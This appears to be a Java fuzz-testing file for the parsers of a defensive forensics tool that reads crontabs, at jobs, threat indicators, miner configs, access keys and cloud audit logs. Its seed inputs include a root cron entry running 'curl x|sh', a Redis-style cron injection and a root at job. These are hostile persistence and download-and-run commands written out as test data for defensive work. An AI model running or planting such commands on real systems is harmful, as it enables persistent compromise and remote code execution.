package davy.range.fuzz;

import static davy.range.fuzz.Target.check;
import static davy.range.fuzz.Target.same;

import com.fasterxml.jackson.core.JsonToken;
import davy.core.cloud.TrailReader;
import davy.core.indicator.Indicators;
import davy.core.indicator.MinerConfig;
import davy.core.indicator.Pool;
import davy.core.indicator.Wallet;
import davy.core.json.Json;
import davy.core.json.JsonObjects;
import davy.core.persistence.AtJob;
import davy.core.persistence.CronTable;
import davy.core.secret.AccessKeys;
import davy.core.text.RawText;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;

/// Parsers of one text.
@SuppressWarnings("StringConcatToTextBlock") // seeds are short
final class TextTargets {
    private static final List<String> FORMATS =
            List.of("a.json", "a.csv", "a.txt", "a.stix", "a.misp", "a");

    static final List<Target> ALL =
            List.of(
                    Target.of(
                            "raw-text",
                            "encode gives the bytes back; what is shown has no control, no escape"
                                    + " of a terminal and no line end",
                            TextTargets::rawText,
                            "plain",
                            "\u4e2d\u6587 \u202e\ud83d\ude00\\x41\u001b[2J",
                            "\\u{41}\\\\x"),
                    Target.of(
                            "json",
                            "no more tokens than bytes; what the strict reader takes, the tolerant"
                                    + " one takes alike",
                            TextTargets::json,
                            "{\"a\":[1,-2.5e3,true,null,\"\\u0041\"],\"b\":{\"c\":\"d\"}}",
                            "// c\n{a:'b',}"),
                    Target.of(
                            "json-objects",
                            "each object handed over has a field",
                            TextTargets::objects,
                            "{\"Records\":[{\"a\":\"{\\\"b\\\":1}\"},{\"c\":[{\"a\":2}]}]}",
                            "{\"a\":1}\n{\"a\":2}{\"a\":"),
                    Target.of(
                            "cron-table",
                            "entries of the text up to any line end are the first entries of all",
                            TextTargets::cron,
                            "# c\nSHELL=/bin/sh\n*/5 19-23,0-7 * * * root curl x|sh%in\\%put\n",
                            "@reboot root /x\n1-59/2 1 1 jan-dec mon,tue root a\n",
                            "REDIS0009\u0000\n\n*/1 * * * * /x\n\n"),
                    Target.of(
                            "anacron-table",
                            "no more entries than lines",
                            bytes -> anacron(RawText.decode(bytes)),
                            "START_HOURS_RANGE=6-8\n@monthly 15 m run-parts /etc/cron.monthly\n"),
                    Target.of(
                            "at-job",
                            "the command is a part of the text",
                            TextTargets::atJob,
                            "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\n"
                                    + "cd /root || {\n\t echo 'Execution directory inaccessible'"
                                    + " >&2\n\t exit 1\n}\nid\n",
                            "}\n}\n<< 'marcinDELIMITER1'\nid\nmarcinDELIMITER1\n"),
                    Target.of(
                            "indicators",
                            "all lookups answer; no more indicators than bytes",
                            TextTargets::indicators,
                            "\u0000{\"type\":\"bundle\",\"objects\":[{\"type\":\"indicator\","
                                    + "\"id\":\"indicator--1\",\"pattern_type\":\"stix\",\"pattern\":"
                                    + "\"[ipv4-addr:value = '198.51.100.1' OR file:hashes.MD5 ="
                                    + " '00000000000000000000000000000000']\"}]}",
                            "\u0001type,value,comment\nip-dst,198.51.100.1,x\ndomain,a.example,y\n",
                            "\u0002hxxp://a[.]example/x\n198.51.100.0/24 # c\n",
                            "\u0004{\"Event\":{\"uuid\":\"1\",\"Attribute\":[{\"type\":\"ip-dst\","
                                    + "\"value\":\"198.51.100.1\",\"to_ids\":true}]}}"),
                    Target.of(
                            "stix-pattern",
                            "all lookups answer; no more indicators than bytes",
                            TextTargets::pattern,
                            "[ipv4-addr:value = '198.51.100.1'] FOLLOWEDBY [url:value LIKE 'h%']",
                            "([file:hashes.'SHA-256' IN ('a','b')] AND [domain-name:value ="
                                    + " 'a.example']) WITHIN 5 SECONDS"),
                    Target.of(
                            "miner-config",
                            "the same twice",
                            bytes -> {
                                String text = RawText.decode(bytes);
                                var config = MinerConfig.parse(text);
                                same(config, () -> MinerConfig.parse(text));
                                return config == null ? 0 : config.toString().length();
                            },
                            "{\"pools\":[{\"url\":\"stratum+tcp://pool.example:3333\",\"user\":\"w\","
                                    + "\"pass\":\"x\"}],\"donate-level\":1,\"cpu\":{\"enabled\":true}}",
                            "{ // c\n \"algo\": \"rx/0\", \"url\": \"a:1\" }"),
                    Target.of(
                            "wallets-and-pools",
                            "the quick test finds what the full one finds",
                            TextTargets::wallets,
                            "stratum+tcp://pool.example:3333 xmr.pool.example:14444",
                            "1BoatSLRHtKNngkdXEeobR76b53LETtpyT bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"),
                    Target.of(
                            "access-keys",
                            "ids found stand in the text",
                            TextTargets::keys,
                            "AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
                            "accessKeyId: LTAI5tAAAAAAAAAAAAAAAAAA\nsecret ="
                                    + " abcdefghijklmnopqrstuvwxyz0123\nAKIDz8krbsJ5yKBZQpn74WFkmLPx3gnPhESA"),
                    Target.of(
                            "cloud-trail",
                            "no more events than bytes",
                            bytes -> {
                                var trail = new TrailReader().add("a.json", bytes).done();
                                check(trail.events() <= bytes.length, "too many events");
                                return trail.events() + trail.toString().length() / 16;
                            },
                            "{\"eventName\":\"RunCommand\",\"eventTime\":\"2026-01-01T00:00:00Z\","
                                    + "\"serviceName\":\"Ecs\",\"sourceIpAddress\":\"198.51.100.1\","
                                    + "\"userIdentity\":{\"accessKeyId\":\"LTAI\"},\"requestParameters\":"
                                    + "{\"CommandContent\":\"aWQ=\",\"InstanceId.1\":\"i-1\"}}",
                            "{\"Records\":[{\"eventSource\":\"ssm.amazonaws.com\",\"eventName\":"
                                    + "\"SendCommand\",\"requestParameters\":{\"parameters\":{\"commands\":"
                                    + "[\"id\"]},\"instanceIds\":[\"i-1\"]}}]}"));

    private TextTargets() {}

    private static long rawText(byte[] bytes) {
        String text = RawText.decode(bytes);
        check(Arrays.equals(RawText.encode(text), bytes), "encode does not give the bytes back");
        String shown = RawText.show(text);
        boolean clean =
                shown.codePoints()
                        .allMatch(c ->
                                c >= 0x20
                                        && c != 0x7F
                                        && (c < 0x80 || c > 0x9F)
                                        && (c < 0x202A || c > 0x202E)
                                        && (c < 0xD800 || c > 0xDFFF));
        check(clean, "a control is shown");
        return shown.length();
    }

    private static long json(byte[] bytes) {
        var strict = Json.strict(bytes);
        var tolerant = Json.tolerant(RawText.decode(bytes));
        boolean ascii = isPlain(bytes);
        long tokens = 0;
        for (var token = strict.next(); token != null; token = strict.next()) {
            tokens++;
            if (ascii && token != JsonToken.NOT_AVAILABLE) {
                var other = tolerant.next();
                check(token == other, "strict, tolerant, why", token, other, tolerant.error());
                String text = strict.text();
                check(
                        strict.error() != null || text.equals(tolerant.text()),
                        "two texts of one token");
            }
        }
        check(tokens <= bytes.length + 1L, "how many tokens", tokens);
        for (var token = tolerant.next(); token != null; token = tolerant.next()) {
            tokens++;
        }
        return tokens;
    }

    /// Without what the strict reader takes for a sign of UTF-16 or UTF-32.
    private static boolean isPlain(byte[] bytes) {
        for (byte b : bytes) {
            if (b <= 0) {
                return false;
            }
        }
        return true;
    }

    private static long objects(byte[] bytes) {
        String text = RawText.decode(bytes);
        long[] count = {0};
        var _ =
                JsonObjects.read(
                        Json.tolerant(text),
                        fields -> fields.has("a"),
                        fields -> {
                            check(!fields.isEmpty(), "an object without fields");
                            count[0]++;
                        });
        var _ = JsonObjects.of(text).first("a", "b");
        return count[0];
    }

    private static long cron(byte[] bytes) {
        String text = RawText.decode(bytes);
        var all = CronTable.parse("/etc/crontab", text, true);
        int end = text.indexOf('\n', text.length() / 2);
        if (end >= 0 && !all.binary() && !all.dump()) {
            var some = CronTable.parse("/etc/crontab", text.substring(0, end + 1), true);
            if (!some.binary() && !some.dump()) {
                int count = Math.min(some.entries().size(), all.entries().size());
                check(
                        count == some.entries().size()
                                && some.entries().equals(all.entries().subList(0, count)),
                        "entries depend on what follows them");
            }
        }
        long size = 0;
        for (var entry : all.entries()) {
            size += entry.command().length() + entry.oddities().size();
        }
        return size + all.settings().size() + all.problems().size();
    }

    private static long anacron(String text) {
        var table = CronTable.parseAnacron("/etc/anacrontab", text);
        check(table.entries().size() <= text.lines().count() + 1, "more entries than lines");
        return table.entries().size();
    }

    private static long atJob(byte[] bytes) {
        String text = RawText.decode(bytes);
        var job = AtJob.parse("/var/spool/at/a0000101abcdef", text);
        check(text.contains(job.command()), "not of the text");
        return job.command().length();
    }

    private static long indicators(byte[] bytes) {
        if (bytes.length == 0) {
            return 0;
        }
        String name = FORMATS.get(Math.floorMod(bytes[0], FORMATS.size()));
        return indicators(name, Arrays.copyOfRange(bytes, 1, bytes.length));
    }

    private static long pattern(byte[] bytes) {
        String pattern = RawText.show(RawText.decode(bytes)).replace("\\", "\\\\");
        String json =
                "{\"type\":\"bundle\",\"objects\":[{\"type\":\"indicator\",\"pattern_type\":\"stix\","
                        + "\"pattern\":\""
                        + pattern.replace("\"", "\\\"")
                        + "\"}]}";
        return indicators("a.json", RawText.encode(json));
    }

    private static long indicators(String name, byte[] bytes) {
        var now = Instant.ofEpochSecond(1_700_000_000);
        var indicators = Indicators.parse(name, bytes, now);
        check(indicators.size() <= bytes.length, "how many indicators", indicators.size());
        String text = RawText.decode(bytes, 0, Math.min(200, bytes.length));
        var _ = indicators.domain(text);
        var _ = indicators.url(text);
        var _ = indicators.hash(text);
        var _ = indicators.file(text);
        return (long) indicators.size() + indicators.problems().size();
    }

    private static long wallets(byte[] bytes) {
        String text = RawText.decode(bytes);
        var wallets = Wallet.findIn(text);
        var pools = Pool.findIn(text);
        boolean strong = wallets.stream().anyMatch(wallet -> wallet.coin().isStrong());
        check(Wallet.isIn(text) == strong, "isIn and findIn of wallets differ");
        boolean sure = pools.stream().anyMatch(pool -> pool.sign().isStrong());
        check(Pool.isIn(text) == sure, "isIn and findIn of pools differ");
        return (long) wallets.size() + pools.size();
    }

    private static long keys(byte[] bytes) {
        String text = RawText.decode(bytes);
        var keys = AccessKeys.find(text);
        check(keys.isEmpty() || AccessKeys.mayHold(bytes), "found where none may be");
        for (var key : keys) {
            check(text.contains(key.id()), "an id that is not there");
        }
        return keys.size();
    }
}
